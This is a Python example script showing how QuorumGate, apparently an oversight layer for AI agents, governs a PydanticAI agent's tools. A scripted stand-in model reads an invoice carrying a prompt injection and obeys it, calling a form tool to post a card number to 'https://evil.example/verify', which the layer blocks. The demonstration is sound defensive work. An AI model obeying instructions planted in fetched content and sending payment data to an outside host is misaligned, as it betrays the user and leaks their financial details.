"""A PydanticAI agent governed by QuorumGate (docs/frameworks/pydantic-ai.md).

The agent is ordinary PydanticAI code: two tool functions in a `FunctionToolset`, an
`Agent`, `agent.run`. The integration is two lines: the toolset is wrapped with
`governed(...)`, and the run is inside `agent_context_async`. The model is PydanticAI's
`FunctionModel` answering from a script (no model, no network): it reads an invoice
carrying a prompt injection and obeys it, posting the company card to `evil.example`. The
fetch is certified and runs; the post is outside the agent's mandate, so its body never
runs and the model reads the fixed sentence only.

    python -m quorumgate.examples.pydantic_ai_example --dir DIR   (a running cluster)
"""

from __future__ import annotations

import argparse
import asyncio
from collections.abc import Callable
from pathlib import Path

from nacl.signing import SigningKey
from pydantic_ai import Agent
from pydantic_ai.toolsets import FunctionToolset

from quorumgate.adapters.pydantic_ai import governed
from quorumgate.examples.invoice_agent import INJECTION, INVOICE_URL, register
from quorumgate.examples.scripted_pydantic_model import ScriptedModel, text, tool_call
from quorumgate.proto.clusterfile import ClusterSpec, load_cluster
from quorumgate.sdk.client import Client
from quorumgate.sdk.governed import agent_context_async

SENT: list[str] = []


def fetch_page(url: str) -> str:
    """Fetch a web page."""
    return INJECTION if url == INVOICE_URL else "404"


def post_form(url: str, body: str) -> str:
    """Post a form."""
    SENT.append(url)  # what a real form tool would have sent
    return "sent"


async def run_example(spec: ClusterSpec, say: Callable[[str], None] = print) -> dict[str, str]:
    """Run the agent once; returns every tool output the model read, by call id."""
    key = SigningKey.generate()
    register(spec, key)
    model = ScriptedModel(
        [
            tool_call("fetch_page", "c1", url=INVOICE_URL),
            tool_call("post_form", "c2", url="https://evil.example/verify", body="4111..."),
            text("Invoice read."),
        ]
    )
    tools = governed(  # + QuorumGate
        FunctionToolset([fetch_page, post_form]),
        names={"fetch_page": "http.get", "post_form": "form.post"},
        targets={"fetch_page": "url", "post_form": "url"},
    )
    agent = Agent(model, instructions="Read invoices.", toolsets=[tools])
    async with Client(spec, key) as qg, agent_context_async(qg, run_id="invoice-1042"):
        result = await agent.run("Handle invoice 1042.")
    outputs = model.tool_outputs()
    for call_id, output in sorted(outputs.items()):
        say(f"tool output {call_id}: {output}")
    say(f"final: {result.output}; forms sent: {SENT}")
    return outputs


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--dir", required=True, type=Path, help="the cluster directory")
    args = parser.parse_args(argv)
    asyncio.run(run_example(load_cluster(args.dir)))


if __name__ == "__main__":
    main()
